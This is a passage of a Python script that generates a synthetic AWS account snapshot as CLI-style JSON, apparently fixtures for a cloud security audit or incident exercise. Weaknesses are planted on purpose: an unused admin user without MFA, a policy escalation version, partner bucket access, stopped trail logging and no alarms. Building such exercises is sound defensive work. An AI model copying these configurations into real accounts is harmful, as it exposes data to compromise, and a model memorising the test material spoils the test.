        "TimeLoggingStarted": ct_ts(START_LOGGING_AT),
        "TimeLoggingStopped": ct_ts(STOP_LOGGING_AT),
    })
    tree.json(f"{d}/{TRAIL}/get-event-selectors.json", {"TrailARN": TRAIL_ARN, "EventSelectors": [{
        "ReadWriteType": "All", "IncludeManagementEvents": True,
        "DataResources": [{"Type": "AWS::S3::Object", "Values": [f"arn:aws:s3:::{DATA_BUCKET}/"]}],
        "ExcludeManagementEventSources": []}]})


def detection_snapshot(tree: Tree) -> None:
    d = f"{REGION}/configservice"
    recorder_arn = f"arn:aws:config:{REGION}:{ACCOUNT}:configuration-recorder/default/{alnum('config-recorder', 16)}"
    tree.json(f"{d}/describe-configuration-recorders.json", {"ConfigurationRecorders": [{
        "arn": recorder_arn, "name": "default", "roleARN": rarn("AWSServiceRoleForConfig"),
        "recordingGroup": {"allSupported": True, "includeGlobalResourceTypes": True, "resourceTypes": [],
                           "exclusionByResourceTypes": {"resourceTypes": []},
                           "recordingStrategy": {"useOnly": "ALL_SUPPORTED_RESOURCE_TYPES"}},
        "recordingMode": {"recordingFrequency": "CONTINUOUS", "recordingModeOverrides": []},
        "recordingScope": "PAID"}]})
    tree.json(f"{d}/describe-configuration-recorder-status.json", {"ConfigurationRecordersStatus": [{
        "arn": recorder_arn, "name": "default", "lastStartTime": cli_ts(utc(2024, 1, 15, 9, 35, 40, 117000)),
        "recording": True, "lastStatus": "SUCCESS", "lastStatusChangeTime": cli_ts(utc(2026, 3, 14, 11, 54, 2, 381000))}]})
    tree.json(f"{REGION}/guardduty/list-detectors.json", {"DetectorIds": [DETECTOR_ID]})
    features = [(n, "ENABLED") for n in ("CLOUD_TRAIL", "DNS_LOGS", "FLOW_LOGS", "S3_DATA_EVENTS")] + \
               [(n, "DISABLED") for n in ("EKS_AUDIT_LOGS", "EBS_MALWARE_PROTECTION", "RDS_LOGIN_EVENTS",
                                          "EKS_RUNTIME_MONITORING", "LAMBDA_NETWORK_LOGS", "RUNTIME_MONITORING")]
    tree.json(f"{REGION}/guardduty/{DETECTOR_ID}/get-detector.json", {
        "CreatedAt": "2024-01-15T09:36:29.608Z", "FindingPublishingFrequency": "SIX_HOURS",
        "ServiceRole": rarn("AWSServiceRoleForAmazonGuardDuty"), "Status": "ENABLED",
        "UpdatedAt": "2025-06-03T12:10:44.215Z", "Tags": {},
        "Features": [{"Name": n, "Status": s, "UpdatedAt": cli_ts(utc(2025, 6, 3, 12, 10, 44))} for n, s in features]})
    tree.json(f"{REGION}/securityhub/describe-hub.json", {
        "HubArn": f"arn:aws:securityhub:{REGION}:{ACCOUNT}:hub/default", "SubscribedAt": "2024-06-12T09:30:11.118Z",
        "AutoEnableControls": True, "ControlFindingGenerator": "SECURITY_CONTROL"})


def messaging_snapshot(tree: Tree) -> None:
    d = f"{REGION}/secretsmanager"
    tree.json(f"{d}/list-secrets.json", {"SecretList": [{
        "ARN": SECRET_ARN, "Name": SECRET_NAME, "Description": "prod-db application user password",
        "LastChangedDate": cli_ts(utc(2025, 11, 4, 8, 58, 40, 215000)),
        "LastAccessedDate": cli_ts(utc(2026, 3, 14, 0, 0, 0)),
        "Tags": std_tags(SECRET_NAME),
        "SecretVersionsToStages": {det_uuid("secret-version-2"): ["AWSCURRENT"], det_uuid("secret-version-1"): ["AWSPREVIOUS"]},
        "CreatedDate": cli_ts(utc(2024, 6, 11, 14, 35, 10, 873000))}]})
    secret_policy = {"Version": "2012-10-17", "Statement": [
        {"Sid": "WebServersRead", "Effect": "Allow", "Principal": {"AWS": rarn("web-server-role")},
         "Action": "secretsmanager:GetSecretValue", "Resource": "*"},
        {"Sid": "DenyOutsideAccount", "Effect": "Deny", "Principal": "*", "Action": "secretsmanager:*", "Resource": "*",
         "Condition": {"StringNotEquals": {"aws:PrincipalAccount": ACCOUNT}}}]}
    tree.json(f"{d}/{enc(SECRET_NAME)}/get-resource-policy.json",
              {"ARN": SECRET_ARN, "Name": SECRET_NAME, "ResourcePolicy": jackson(secret_policy)})

    tree.json(f"{REGION}/sns/list-topics.json", {"Topics": [{"TopicArn": TOPIC_ARN}]})
    topic_policy = {"Version": "2008-10-17", "Id": "__default_policy_ID", "Statement": [
        {"Sid": "__default_statement_ID", "Effect": "Allow", "Principal": {"AWS": "*"},
         "Action": ["SNS:GetTopicAttributes", "SNS:SetTopicAttributes", "SNS:AddPermission", "SNS:RemovePermission",
                    "SNS:DeleteTopic", "SNS:Subscribe", "SNS:ListSubscriptionsByTopic", "SNS:Publish"],
         "Resource": TOPIC_ARN, "Condition": {"StringEquals": {"AWS:SourceOwner": ACCOUNT}}},
        {"Sid": "AllowEventBridgeSecurityFindings", "Effect": "Allow", "Principal": {"Service": "events.amazonaws.com"},
         "Action": "sns:Publish", "Resource": TOPIC_ARN,
         "Condition": {"ArnLike": {"aws:SourceArn": f"arn:aws:events:{REGION}:{ACCOUNT}:rule/guardduty-findings"}}}]}
    delivery = {"http": {"defaultHealthyRetryPolicy": {"minDelayTarget": 20, "maxDelayTarget": 20, "numRetries": 3,
                                                       "numMaxDelayRetries": 0, "numNoDelayRetries": 0,
                                                       "numMinDelayRetries": 0, "backoffFunction": "linear"},
                         "disableSubscriptionOverrides": False,
                         "defaultRequestPolicy": {"headerContentType": "text/plain; charset=UTF-8"}}}
    tree.json(f"{REGION}/sns/{enc(TOPIC_ARN)}/get-topic-attributes.json", {"Attributes": {
        "Policy": compact(topic_policy), "Owner": ACCOUNT, "SubscriptionsPending": "0", "TopicArn": TOPIC_ARN,
        "EffectiveDeliveryPolicy": compact(delivery), "SubscriptionsConfirmed": "2", "DisplayName": "",
        "SubscriptionsDeleted": "0"}})
    tree.json(f"{REGION}/sns/list-subscriptions.json", {"Subscriptions": [
        {"SubscriptionArn": f"{TOPIC_ARN}:{det_uuid('sns-subscription-email')}", "Owner": ACCOUNT,
         "Protocol": "email", "Endpoint": "secops@example.com", "TopicArn": TOPIC_ARN},
        {"SubscriptionArn": f"{TOPIC_ARN}:{det_uuid('sns-subscription-pager')}", "Owner": ACCOUNT,
         "Protocol": "https", "Endpoint": "https://events.pagerduty.com/integration/example/enqueue", "TopicArn": TOPIC_ARN}]})
    # The account has no CloudWatch Logs metric filters and no alarms: nothing watches the
    # trail for the CIS section 4 events.
    tree.json(f"{REGION}/logs/describe-metric-filters.json", {"metricFilters": []})
    tree.json(f"{REGION}/cloudwatch/describe-alarms.json", {"MetricAlarms": [], "CompositeAlarms": []})
    # No EFS file systems, and IAM Access Analyzer was never turned on.
    tree.json(f"{REGION}/efs/describe-file-systems.json", {"FileSystems": []})
    tree.json(f"{REGION}/accessanalyzer/list-analyzers.json", {"analyzers": []})
    # No server certificates in IAM: the load balancer's certificate is in ACM.
    tree.json("global/iam/list-server-certificates.json", {"ServerCertificateMetadataList": [], "IsTruncated": False})

    tree.json(f"{REGION}/sqs/list-queues.json", {"QueueUrls": [QUEUE_URL]})
    queue_policy = {"Version": "2012-10-17", "Id": f"{QUEUE_ARN}/SQSDefaultPolicy", "Statement": [
        {"Sid": "BatchJobUser", "Effect": "Allow", "Principal": {"AWS": user_arn("batch-job")},
         "Action": ["SQS:ReceiveMessage", "SQS:DeleteMessage", "SQS:GetQueueAttributes", "SQS:SendMessage"],
         "Resource": QUEUE_ARN},
        {"Sid": "WebServersEnqueue", "Effect": "Allow", "Principal": {"AWS": rarn("web-server-role")},
         "Action": "SQS:SendMessage", "Resource": QUEUE_ARN}]}
    tree.json(f"{REGION}/sqs/{QUEUE_NAME}/get-queue-attributes.json", {"Attributes": {
        "QueueArn": QUEUE_ARN, "ApproximateNumberOfMessages": "3", "ApproximateNumberOfMessagesNotVisible": "0",
        "ApproximateNumberOfMessagesDelayed": "0", "CreatedTimestamp": str(epoch(utc(2024, 9, 18, 16, 40, 12))),
        "LastModifiedTimestamp": str(epoch(utc(2025, 11, 4, 9, 20, 41))), "VisibilityTimeout": "300",
        "MaximumMessageSize": "262144", "MessageRetentionPeriod": "345600", "DelaySeconds": "0",
        "Policy": compact(queue_policy), "ReceiveMessageWaitTimeSeconds": "20", "SqsManagedSseEnabled": "true"}})


def kms_snapshot(tree: Tree) -> None:
    d = f"{REGION}/kms"
    order = sorted(KMS, key=lambda k: KMS_ID[k])
    tree.json(f"{d}/list-keys.json", {"Keys": [{"KeyId": KMS_ID[k], "KeyArn": kms_arn(k)} for k in order]})
    tree.json(f"{d}/list-aliases.json", {"Aliases": [
        {"AliasName": KMS[k][0], "AliasArn": f"arn:aws:kms:{REGION}:{ACCOUNT}:{KMS[k][0]}", "TargetKeyId": KMS_ID[k],
         "CreationDate": cli_ts(KMS[k][3]), "LastUpdatedDate": cli_ts(KMS[k][3])}
        for k in sorted(KMS, key=lambda k: KMS[k][0])]})
    for k, (alias, desc, manager, created) in KMS.items():
        tree.json(f"{d}/{KMS_ID[k]}/describe-key.json", {"KeyMetadata": {
            "AWSAccountId": ACCOUNT, "KeyId": KMS_ID[k], "Arn": kms_arn(k), "CreationDate": cli_ts(created),
            "Enabled": True, "Description": desc, "KeyUsage": "ENCRYPT_DECRYPT", "KeyState": "Enabled",
            "Origin": "AWS_KMS", "KeyManager": manager, "CustomerMasterKeySpec": "SYMMETRIC_DEFAULT",
            "KeySpec": "SYMMETRIC_DEFAULT", "EncryptionAlgorithms": ["SYMMETRIC_DEFAULT"], "MultiRegion": False,
            "CurrentKeyMaterialId": digest("key-material", k).hex()}})
        tree.json(f"{d}/{KMS_ID[k]}/get-key-policy.json", {"Policy": jackson(key_policy(k)), "PolicyName": "default"})
        rot: dict = {"KeyRotationEnabled": manager == "AWS", "KeyId": KMS_ID[k]}
        if manager == "AWS":
            nxt = created.replace(year=2026, microsecond=0)
            if nxt < SNAPSHOT_AT:
                nxt = nxt.replace(year=2027)
            rot.update({"RotationPeriodInDays": 365, "NextRotationDate": cli_ts(nxt)})
        tree.json(f"{d}/{KMS_ID[k]}/get-key-rotation-status.json", rot)


def key_policy(k: str) -> dict:
    root = f"arn:aws:iam::{ACCOUNT}:root"
    if k == "rds":
        return {"Version": "2012-10-17", "Id": "key-consolepolicy-3", "Statement": [
            {"Sid": "Enable IAM User Permissions", "Effect": "Allow", "Principal": {"AWS": root}, "Action": "kms:*",
             "Resource": "*"},
            {"Sid": "Allow access for Key Administrators", "Effect": "Allow", "Principal": {"AWS": user_arn("alice")},
             "Action": ["kms:Create*", "kms:Describe*", "kms:Enable*", "kms:List*", "kms:Put*", "kms:Update*",
                        "kms:Revoke*", "kms:Disable*", "kms:Get*", "kms:Delete*", "kms:TagResource",
                        "kms:UntagResource", "kms:ScheduleKeyDeletion", "kms:CancelKeyDeletion", "kms:RotateKeyOnDemand"],
             "Resource": "*"}]}
    service, label, actions = {
        "aws-s3": ("s3", "S3", ["kms:Encrypt", "kms:Decrypt", "kms:ReEncrypt*", "kms:GenerateDataKey*", "kms:DescribeKey"]),
        "aws-ebs": ("ec2", "EBS", ["kms:Encrypt", "kms:Decrypt", "kms:ReEncrypt*", "kms:GenerateDataKey*",
                                   "kms:CreateGrant", "kms:DescribeKey"]),
        "aws-secretsmanager": ("secretsmanager", "AWS Secrets Manager",
                               ["kms:Encrypt", "kms:Decrypt", "kms:ReEncrypt*", "kms:GenerateDataKey*",
                                "kms:CreateGrant", "kms:DescribeKey"]),
    }[k]
    return {"Version": "2012-10-17", "Id": f"auto-{k[4:]}-2", "Statement": [
        {"Sid": f"Allow access through {label} for all principals in the account that are authorized to use {label}",
         "Effect": "Allow", "Principal": {"AWS": "*"}, "Action": actions, "Resource": "*",
         "Condition": {"StringEquals": {"kms:CallerAccount": ACCOUNT, "kms:ViaService": f"{service}.{REGION}.amazonaws.com"}}},
        {"Sid": "Allow direct access to key metadata to the account", "Effect": "Allow", "Principal": {"AWS": root},
         "Action": ["kms:Describe*", "kms:Get*", "kms:List*", "kms:RevokeGrant"], "Resource": "*"}]}


def s3_snapshot(tree: Tree) -> None:
    d = "global/s3"
    # S3 no longer returns Owner.DisplayName (discontinued in 2025): only the canonical ID
    tree.json(f"{d}/list-buckets.json", {
        "Buckets": [{"Name": b, "CreationDate": cli_ts(BUCKETS[b]), "BucketRegion": REGION} for b in sorted(BUCKETS)],
        "Owner": {"ID": CANONICAL_ID}})
    full_control = {"Owner": {"ID": CANONICAL_ID}, "Grants": [
        {"Grantee": {"ID": CANONICAL_ID, "Type": "CanonicalUser"}, "Permission": "FULL_CONTROL"}]}
    pab_all = {"PublicAccessBlockConfiguration": {"BlockPublicAcls": True, "IgnorePublicAcls": True,
                                                  "BlockPublicPolicy": True, "RestrictPublicBuckets": True}}
    sse_s3 = {"ServerSideEncryptionConfiguration": {"Rules": [
        {"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}, "BucketKeyEnabled": False}]}}
    sse_kms = {"ServerSideEncryptionConfiguration": {"Rules": [
        {"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "aws:kms"}, "BucketKeyEnabled": True}]}}
    deny_insecure = lambda b: {"Sid": "DenyInsecureTransport", "Effect": "Deny", "Principal": "*", "Action": "s3:*",
                               "Resource": [f"arn:aws:s3:::{b}", f"arn:aws:s3:::{b}/*"],
                               "Condition": {"Bool": {"aws:SecureTransport": "false"}}}
    policies = {
        DATA_BUCKET: {"Version": "2012-10-17", "Statement": [
            deny_insecure(DATA_BUCKET),
            {"Sid": "TempPartnerAccess", "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{PARTNER_ACCOUNT}:root"},
             "Action": ["s3:GetObject", "s3:ListBucket"],
             "Resource": [f"arn:aws:s3:::{DATA_BUCKET}", f"arn:aws:s3:::{DATA_BUCKET}/*"]}]},
        TRAIL_BUCKET: {"Version": "2012-10-17", "Statement": [
            {"Sid": "AWSCloudTrailAclCheck", "Effect": "Allow", "Principal": {"Service": "cloudtrail.amazonaws.com"},
             "Action": "s3:GetBucketAcl", "Resource": f"arn:aws:s3:::{TRAIL_BUCKET}",
             "Condition": {"StringEquals": {"aws:SourceArn": TRAIL_ARN}}},
            {"Sid": "AWSCloudTrailWrite", "Effect": "Allow", "Principal": {"Service": "cloudtrail.amazonaws.com"},
             "Action": "s3:PutObject", "Resource": f"arn:aws:s3:::{TRAIL_BUCKET}/AWSLogs/{ACCOUNT}/*",
             "Condition": {"StringEquals": {"s3:x-amz-acl": "bucket-owner-full-control", "aws:SourceArn": TRAIL_ARN}}}]},
        LOG_BUCKET: {"Version": "2012-10-17", "Statement": [
            {"Sid": "AWSLogDeliveryWrite", "Effect": "Allow", "Principal": {"Service": "delivery.logs.amazonaws.com"},
             "Action": "s3:PutObject", "Resource": f"arn:aws:s3:::{LOG_BUCKET}/AWSLogs/{ACCOUNT}/*",
             "Condition": {"StringEquals": {"aws:SourceAccount": ACCOUNT, "s3:x-amz-acl": "bucket-owner-full-control"},
                           "ArnLike": {"aws:SourceArn": f"arn:aws:logs:{REGION}:{ACCOUNT}:*"}}},
            {"Sid": "AWSLogDeliveryAclCheck", "Effect": "Allow", "Principal": {"Service": "delivery.logs.amazonaws.com"},
             "Action": "s3:GetBucketAcl", "Resource": f"arn:aws:s3:::{LOG_BUCKET}",
             "Condition": {"StringEquals": {"aws:SourceAccount": ACCOUNT}}},
            {"Sid": "ElbAccessLogs", "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{ELB_LOG_ACCOUNT}:root"},
             "Action": "s3:PutObject",
             "Resource": f"arn:aws:s3:::{LOG_BUCKET}/AWSLogs/{ACCOUNT}/elasticloadbalancing/*"}]},
    }
    settings = {  # bucket -> (encryption, versioning, logging)
        ASSETS_BUCKET: (sse_s3, {"Status": "Enabled"},
                        {"LoggingEnabled": {"TargetBucket": LOG_BUCKET, "TargetPrefix": f"s3-access/{ASSETS_BUCKET}/"}}),
        DATA_BUCKET: (sse_kms, {}, {}),
        TRAIL_BUCKET: (sse_s3, {"Status": "Enabled"}, {}),
        LOG_BUCKET: (sse_s3, {}, {}),
    }
    lifecycle = {
        b: {"Rules": [{"Expiration": {"Days": days}, "ID": f"expire-after-{days}-days", "Filter": {"Prefix": ""},
                       "Status": "Enabled", "NoncurrentVersionExpiration": {"NoncurrentDays": 30}}]}
        for b, days in ((TRAIL_BUCKET, 365), (LOG_BUCKET, 90))
    }
    for b in sorted(BUCKETS):
        if b in policies:  # acme-web-assets has none: get-bucket-policy fails with NoSuchBucketPolicy
            tree.json(f"{d}/{b}/get-bucket-policy.json", {"Policy": compact(policies[b])})
        tree.json(f"{d}/{b}/get-bucket-acl.json", full_control)
        tree.json(f"{d}/{b}/get-public-access-block.json", pab_all)
        enc_, ver, logging_ = settings[b]
        tree.json(f"{d}/{b}/get-bucket-encryption.json", enc_)
        tree.json(f"{d}/{b}/get-bucket-versioning.json", ver)
        tree.json(f"{d}/{b}/get-bucket-logging.json", logging_)
        # Only the two log buckets expire their objects; no bucket sends event notifications.
        tree.json(f"{d}/{b}/get-bucket-lifecycle-configuration.json", lifecycle.get(b, {}))
        tree.json(f"{d}/{b}/get-bucket-notification-configuration.json", {})
    tree.json("global/s3control/get-public-access-block.json", {"PublicAccessBlockConfiguration": {
        "BlockPublicAcls": True, "IgnorePublicAcls": True, "BlockPublicPolicy": False, "RestrictPublicBuckets": False}})


# ---------------------------------------------------------------------------------------------
# Snapshot: IAM, Organizations, STS
# ---------------------------------------------------------------------------------------------
def iam_snapshot(tree: Tree) -> None:
    d = "global/iam"
    managed_docs = aws_managed_documents()

    def attached(*names: str) -> list[dict]:
        return [{"PolicyName": n, "PolicyArn": aws_policy_arn(n) if n in AWS_POLICY_META else policy_arn(n)} for n in names]

    users_spec = {  # name -> (inline policies, groups, attached, boundary, tags)
        "alice": ([], ["Admins"], [], None, tags(Team="platform", Email="alice@acme-corp.example")),
        "batch-job": ([("batch-job-access", BATCH_JOB_POLICY)], [], [], None, tags(Purpose="nightly customer export")),
        "bob": ([], ["Developers"], [], None, tags(Team="shop", Email="bob@acme-corp.example")),
        "ci-deploy": ([], [], ["ci-deploy-policy"], "ci-deploy-boundary", tags(Purpose="deploy pipeline")),
        "svc-backup": ([], [], ["AdministratorAccess"], None, []),
    }
    user_details = []
    for u in sorted(users_spec):
        inline, groups, att, boundary, tg = users_spec[u]
        ud: dict = {"Path": "/", "UserName": u, "UserId": USER_ID[u], "Arn": user_arn(u), "CreateDate": cli_ts(USERS[u]),
                    "UserPolicyList": [{"PolicyName": n, "PolicyDocument": doc} for n, doc in inline],
                    "GroupList": groups, "AttachedManagedPolicies": attached(*att)}
        if boundary:
            ud["PermissionsBoundary"] = {"PermissionsBoundaryType": "PermissionsBoundaryPolicy",
                                         "PermissionsBoundaryArn": policy_arn(boundary)}
        ud["Tags"] = tg
        user_details.append(ud)

    group_details = [
        {"Path": "/", "GroupName": "Admins", "GroupId": GROUP_ID["Admins"], "Arn": f"arn:aws:iam::{ACCOUNT}:group/Admins",
         "CreateDate": cli_ts(GROUPS["Admins"]), "GroupPolicyList": [], "AttachedManagedPolicies": attached("AdministratorAccess")},
        {"Path": "/", "GroupName": "Developers", "GroupId": GROUP_ID["Developers"],
         "Arn": f"arn:aws:iam::{ACCOUNT}:group/Developers", "CreateDate": cli_ts(GROUPS["Developers"]),
         "GroupPolicyList": [{"PolicyName": "assume-developer-role", "PolicyDocument": {
             "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
                                                     "Resource": role_arn("developer-role")}]}}],
         "AttachedManagedPolicies": attached("ReadOnlyAccess")},
    ]

    web_trust = service_trust("ec2.amazonaws.com")
    roles_spec = {  # name -> (trust, inline, attached, tags)
        "developer-role": (DEVELOPER_ROLE_TRUST, [], ["developer-policy"], tags(Team="shop")),
        "OrganizationAccountAccessRole": ({"Version": "2012-10-17", "Statement": [
            {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{MGMT_ACCOUNT}:root"}, "Action": "sts:AssumeRole"}]},
            [], ["AdministratorAccess"], []),
        "thumbnailer-role": (service_trust("lambda.amazonaws.com"),
                             [("thumbnailer-s3", {"Version": "2012-10-17", "Statement": [
                                 {"Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"],
                                  "Resource": f"arn:aws:s3:::{ASSETS_BUCKET}/*"}]})],
                             ["AWSLambdaBasicExecutionRole"], std_tags("thumbnailer-role")),
        "web-server-role": (web_trust, [("web-server-access", WEB_ROLE_POLICY)], ["AmazonSSMManagedInstanceCore"],
                            std_tags("web-server-role")),
    }
    for slr, (service, pol) in SLR_SERVICE.items():
        roles_spec[slr] = (service_trust(service), [], [pol], [])
    role_details = []
    for r in sorted(roles_spec, key=lambda r: (ROLES[r][0], r)):
        trust, inline, att, tg = roles_spec[r]
        path, created, last_used = ROLES[r]
        rd: dict = {"Path": path, "RoleName": r, "RoleId": ROLE_ID[r], "Arn": rarn(r), "CreateDate": cli_ts(created),
                    "AssumeRolePolicyDocument": trust, "InstanceProfileList": []}
        if r == "web-server-role":
            rd["InstanceProfileList"] = [{
                "Path": "/", "InstanceProfileName": "web-server-profile", "InstanceProfileId": INSTANCE_PROFILE_ID,
                "Arn": INSTANCE_PROFILE_ARN, "CreateDate": cli_ts(created + dt.timedelta(seconds=4)),
                "Roles": [{"Path": path, "RoleName": r, "RoleId": ROLE_ID[r], "Arn": rarn(r), "CreateDate": cli_ts(created),
                           "AssumeRolePolicyDocument": trust}], "Tags": []}]
        rd["RolePolicyList"] = [{"PolicyName": n, "PolicyDocument": doc} for n, doc in inline]
        rd["AttachedManagedPolicies"] = attached(*att)
        rd["Tags"] = tg
        rd["RoleLastUsed"] = {"LastUsedDate": cli_ts(last_used), "Region": REGION}
        role_details.append(rd)

    # attachment counts, computed from the principals above
    counts: dict[str, int] = {}
    for ent in user_details + group_details + role_details:
        for a in ent["AttachedManagedPolicies"]:
            counts[a["PolicyArn"]] = counts.get(a["PolicyArn"], 0) + 1
    boundary_counts: dict[str, int] = {}
    for ent in user_details:
        if "PermissionsBoundary" in ent:
            arn = ent["PermissionsBoundary"]["PermissionsBoundaryArn"]
            boundary_counts[arn] = boundary_counts.get(arn, 0) + 1

    customer_versions = {
        "developer-policy": [("v1", CUSTOMER_POLICIES["developer-policy"], DEVELOPER_POLICY_V1),
                             ("v2", ESCALATION_AT, DEVELOPER_POLICY_V2)],
        "ci-deploy-policy": [("v1", CUSTOMER_POLICIES["ci-deploy-policy"], {"Version": "2012-10-17", "Statement": [
            {"Sid": "PublishAssets", "Effect": "Allow", "Action": ["s3:PutObject", "s3:DeleteObject", "s3:ListBucket"],
             "Resource": [f"arn:aws:s3:::{ASSETS_BUCKET}", f"arn:aws:s3:::{ASSETS_BUCKET}/*"]},
            {"Sid": "DeployFunction", "Effect": "Allow",
             "Action": ["lambda:UpdateFunctionCode", "lambda:GetFunction", "lambda:PublishVersion"],
             "Resource": FUNCTION_ARN},
            {"Sid": "PassFunctionRole", "Effect": "Allow", "Action": "iam:PassRole",
             "Resource": role_arn("thumbnailer-role")}]})],
        "ci-deploy-boundary": [("v1", CUSTOMER_POLICIES["ci-deploy-boundary"], {"Version": "2012-10-17", "Statement": [
            {"Sid": "DeployOnly", "Effect": "Allow", "Action": ["s3:*", "lambda:*", "logs:*"], "Resource": "*"}]})],
    }
    policies = []
    for name in sorted(CUSTOMER_POLICIES):
        versions = customer_versions[name]
        default = versions[-1][0]
        arn = policy_arn(name)
        policies.append({
            "PolicyName": name, "PolicyId": CUSTOMER_POLICY_ID[name], "Arn": arn, "Path": "/", "DefaultVersionId": default,
            "AttachmentCount": counts.get(arn, 0), "PermissionsBoundaryUsageCount": boundary_counts.get(arn, 0),
            "IsAttachable": True, "CreateDate": cli_ts(CUSTOMER_POLICIES[name]), "UpdateDate": cli_ts(versions[-1][1]),
            "PolicyVersionList": [{"Document": doc, "VersionId": vid, "IsDefaultVersion": vid == default,
                                   "CreateDate": cli_ts(t)} for vid, t, doc in reversed(versions)]})
    for name in sorted(AWS_POLICY_META):
        pid, path, default, created, updated = AWS_POLICY_META[name]
        arn = aws_policy_arn(name)
        policies.append({
            "PolicyName": name, "PolicyId": pid, "Arn": arn, "Path": path, "DefaultVersionId": default,
            "AttachmentCount": counts.get(arn, 0), "PermissionsBoundaryUsageCount": 0, "IsAttachable": True,
            "CreateDate": cli_ts(created), "UpdateDate": cli_ts(updated),
            "PolicyVersionList": [{"Document": managed_docs[name], "VersionId": default, "IsDefaultVersion": True,
                                   "CreateDate": cli_ts(updated)}]})
    tree.json(f"{d}/get-account-authorization-details.json", {
        "UserDetailList": user_details, "GroupDetailList": group_details, "RoleDetailList": role_details,
        "Policies": policies})

    tree.text(f"{d}/credential-report.csv", credential_report())
    tree.json(f"{d}/get-account-password-policy.json", {"PasswordPolicy": {
        "MinimumPasswordLength": 12, "RequireSymbols": True, "RequireNumbers": True, "RequireUppercaseCharacters": True,
        "RequireLowercaseCharacters": True, "AllowUsersToChangePassword": True, "ExpirePasswords": False,
        "HardExpiry": False}})
    attachments = sum(counts.values())
    summary = {  # the order IAM returns them in
        "GroupPolicySizeQuota": 5120, "InstanceProfilesQuota": 1000, "Policies": len(CUSTOMER_POLICIES),
        "GroupsPerUserQuota": 10, "InstanceProfiles": 1, "AttachedPoliciesPerUserQuota": 10, "Users": len(USERS),
        "PoliciesQuota": 1500, "Providers": 0, "AccountMFAEnabled": 1, "AccessKeysPerUserQuota": 2,
        "AssumeRolePolicySizeQuota": 2048, "PolicyVersionsInUseQuota": 10000, "GlobalEndpointTokenVersion": 1,
        "VersionsPerPolicyQuota": 5, "AttachedPoliciesPerGroupQuota": 10, "PolicySizeQuota": 6144,
        "Groups": len(GROUPS), "AccountSigningCertificatesPresent": 0, "UsersQuota": 5000,
        "ServerCertificatesQuota": 20, "MFADevices": 2, "UserPolicySizeQuota": 2048, "PolicyVersionsInUse": attachments,
        "ServerCertificates": 0, "Roles": len(ROLES), "RolesQuota": 1000, "SigningCertificatesPerUserQuota": 2,
        "MFADevicesInUse": 2, "RolePolicySizeQuota": 10240, "AttachedPoliciesPerRoleQuota": 10,
        "AccountAccessKeysPresent": 0, "AccountPasswordPresent": 1, "GroupsQuota": 300}
    tree.json(f"{d}/get-account-summary.json", {"SummaryMap": summary})
    tree.json(f"{d}/list-virtual-mfa-devices.json", {"VirtualMFADevices": [
        {"SerialNumber": f"arn:aws:iam::{ACCOUNT}:mfa/alice",
         "User": {"Path": "/", "UserName": "alice", "UserId": USER_ID["alice"], "Arn": user_arn("alice"),
                  "CreateDate": cli_ts(USERS["alice"]), "PasswordLastUsed": cli_ts(CRED["alice"]["password_last_used"])},
         "EnableDate": cli_ts(utc(2024, 2, 5, 10, 40, 12))},
        {"SerialNumber": f"arn:aws:iam::{ACCOUNT}:mfa/root-account-mfa-device",
         "User": {"UserId": ACCOUNT, "Arn": f"arn:aws:iam::{ACCOUNT}:root", "CreateDate": cli_ts(ACCOUNT_CREATED),
                  "PasswordLastUsed": cli_ts(ROOT_LOGIN_AT)},
         "EnableDate": cli_ts(utc(2024, 1, 15, 9, 20, 3))},
    ]})


ACCOUNT_CREATED = utc(2024, 1, 15, 9, 0, 0)
ROOT_LOGIN_AT = utc(2026, 3, 13, 10, 5, 12)
CRED = {  # the credential report, one entry per user; None = N/A
    "alice": dict(password=True, password_last_used=utc(2026, 3, 13, 9, 2, 15),
                  password_last_changed=utc(2025, 8, 19, 7, 55, 2), mfa=True,
                  keys=[(utc(2025, 6, 10, 8, 12, 0), utc(2026, 3, 11, 17, 40, 0), None, "s3")]),
    "batch-job": dict(password=False, mfa=False,
                      keys=[(utc(2024, 9, 18, 16, 45, 10), utc(2026, 3, 14, 11, 30, 0), None, "s3")]),
    "bob": dict(password=True, password_last_used=utc(2026, 3, 10, 15, 22, 41),
                password_last_changed=utc(2024, 3, 11, 14, 2, 52), mfa=False,
                keys=[(utc(2024, 3, 11, 14, 10, 22), utc(2026, 3, 13, 9, 52, 0), REGION, "ec2")]),
    "ci-deploy": dict(password=True, password_last_used="no_information",
                      password_last_changed=utc(2025, 1, 22, 11, 30, 41), mfa=False,
                      keys=[(utc(2025, 1, 22, 11, 31, 2), utc(2025, 8, 30, 14, 2, 0), REGION, "lambda"),
                            (utc(2025, 9, 1, 10, 0, 17), utc(2026, 3, 12, 9, 46, 0), REGION, "lambda")]),
    "svc-backup": dict(password=True, password_last_used=utc(2026, 3, 12, 11, 2, 44),
                       password_last_changed=utc(2026, 3, 12, 9, 38, 45), mfa=False,
                       keys=[(utc(2026, 3, 12, 9, 38, 20), utc(2026, 3, 13, 2, 17, 0), None, "s3")]),
}
CREDENTIAL_REPORT_COLUMNS = [
    "user", "arn", "user_creation_time", "password_enabled", "password_last_used", "password_last_changed",
    "password_next_rotation", "mfa_active", "access_key_1_active", "access_key_1_last_rotated",
    "access_key_1_last_used_date", "access_key_1_last_used_region", "access_key_1_last_used_service",
    "access_key_2_active", "access_key_2_last_rotated", "access_key_2_last_used_date", "access_key_2_last_used_region",
    "access_key_2_last_used_service", "cert_1_active", "cert_1_last_rotated", "cert_2_active", "cert_2_last_rotated"]


def credential_report() -> str:
    """The decoded Content of `aws iam get-credential-report` (lines joined by \\n, no final newline)."""
    def v(x) -> str:
        if x is None:
            return "N/A"
        if isinstance(x, bool):
            return "true" if x else "false"
        if isinstance(x, dt.datetime):
            return cli_ts(x)
        return str(x)

    rows = [CREDENTIAL_REPORT_COLUMNS,
            ["<root_account>", f"arn:aws:iam::{ACCOUNT}:root", v(ACCOUNT_CREATED), "not_supported", v(ROOT_LOGIN_AT),
             "not_supported", "not_supported", "true", "false", "N/A", "N/A", "N/A", "N/A", "false", "N/A", "N/A", "N/A",
             "N/A", "false", "N/A", "false", "N/A"]]
    for u in sorted(CRED):
        c = CRED[u]
        row = [u, user_arn(u), v(USERS[u]), v(c["password"])]
        if c["password"]:
